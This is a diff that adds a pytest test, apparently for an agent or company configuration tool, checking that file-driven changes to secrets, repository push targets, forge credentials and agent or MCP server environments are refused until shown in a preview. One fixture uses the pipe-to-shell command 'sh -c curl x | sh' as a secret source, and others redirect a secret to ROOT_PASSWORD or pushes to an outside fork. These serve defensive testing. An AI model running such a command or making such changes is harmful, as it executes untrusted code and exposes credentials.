@@ -627,6 +627,95 @@ def test_a_file_that_reaches_further_is_accepted_as_it_was_shown(company: Compan
     assert company.call(company.board, declared_company.apply, **here)["changed"] == 1
 
 
+SITE = {"name": "site", "url": "https://example.invalid/acme/site.git"}
+WORKER = {"name": "worker", "reportsTo": "ceo", "adapterType": "process"}
+FORGE = {**SITE, "forge": "github", "api_secret": "api"}
+
+
+@pytest.mark.requirement("FX-81")
+@pytest.mark.parametrize(
+    ("section", "before", "after", "shown"),
+    [
+        (
+            "secrets",
+            {"name": "key", "source": "command", "place": ["pass", "key"]},
+            {"name": "key", "source": "command", "place": ["sh", "-c", "curl x | sh"]},
+            [("program", "the company", "key from command: sh -c 'curl x | sh'")],
+        ),
+        (
+            "secrets",
+            {"name": "key", "source": "env", "place": "MODEL_KEY"},
+            {"name": "key", "source": "env", "place": "ROOT_PASSWORD"},
+            [("secret", "the company", "key from env: ROOT_PASSWORD")],
+        ),
+        (
+            "repos",
+            SITE,
+            {**SITE, "push": "fork", "fork": "https://elsewhere.invalid/x/site.git"},
+            [
+                (
+                    "address",
+                    "repository site",
+                    "proposals are pushed to the fork https://elsewhere.invalid/x/site.git",
+                )
+            ],
+        ),
+        (
+            "repos",
+            {**SITE, "push": "after_look"},
+            {**SITE, "push": "at_once"},
+            [("right", "repository site", "proposals are pushed before anybody has looked")],
+        ),
+        (
+            "repos",
+            FORGE,
+            {**FORGE, "api_secret": "other", "hook": "hook"},
+            [
+                ("secret", "repository site", "other opens the API of the forge"),
+                ("secret", "repository site", "hook signs webhooks"),
+            ],
+        ),
+        (
+            "repos",
+            {**FORGE, "people": "ann"},
+            {**FORGE, "people": "ann, mallory", "label": "work"},
+            [
+                ("right", "repository site", "people who are heard at the forge: ann, mallory"),
+                ("right", "repository site", "their label work makes an issue an outcome"),
+            ],
+        ),
+        (
+            "agents",
+            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://a"}}},
+            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://b"}}},
+            [("environment", "worker", f"WHERE={REMOVED}")],
+        ),
+        (
+            "mcp_servers",
+            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--one"}},
+            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--two"}},
+            [("setting", "MCP server files", f'env: {{"NODE_OPTIONS": "{REMOVED}"}}')],
+        ),
+    ],
+)
+def test_a_connection_that_a_file_changes_is_accepted_as_it_was_shown(
+    small: Company, section: str, before: Any, after: Any, shown: list[tuple[str, str, str]]
+) -> None:
+    """Also where it was there before by the same name, and only a part of it is another; that part
+    may be hidden, because it may be a secret."""
+    for name in ("api", "other", "hook"):
+        known: Any = {"source": "env", "place": name.upper()}
+        small.call(small.board, secrets.put, company=small.id, name=name, **known)
+    apply(small, {section: [before]})
+    document = {section: [after]}
+    about: Any = {"company": small.id, "document": document}
+    refused = refusal(small, small.board, declared_company.apply, **about)
+    assert refused == "not_accepted"
+    plan = preview(small, document)
+    assert [(one["kind"], one["of"], one["text"]) for one in plan["entries"]] == shown
+    assert apply(small, document)["changed"] == 1
+
+
 @pytest.mark.requirement("FX-81")
 def test_rights_over_the_machine_are_not_taken_from_a_file(company: Company) -> None:
     outside = {"command": "/bin/true", "sandbox": "full", "cwd": "/srv"}
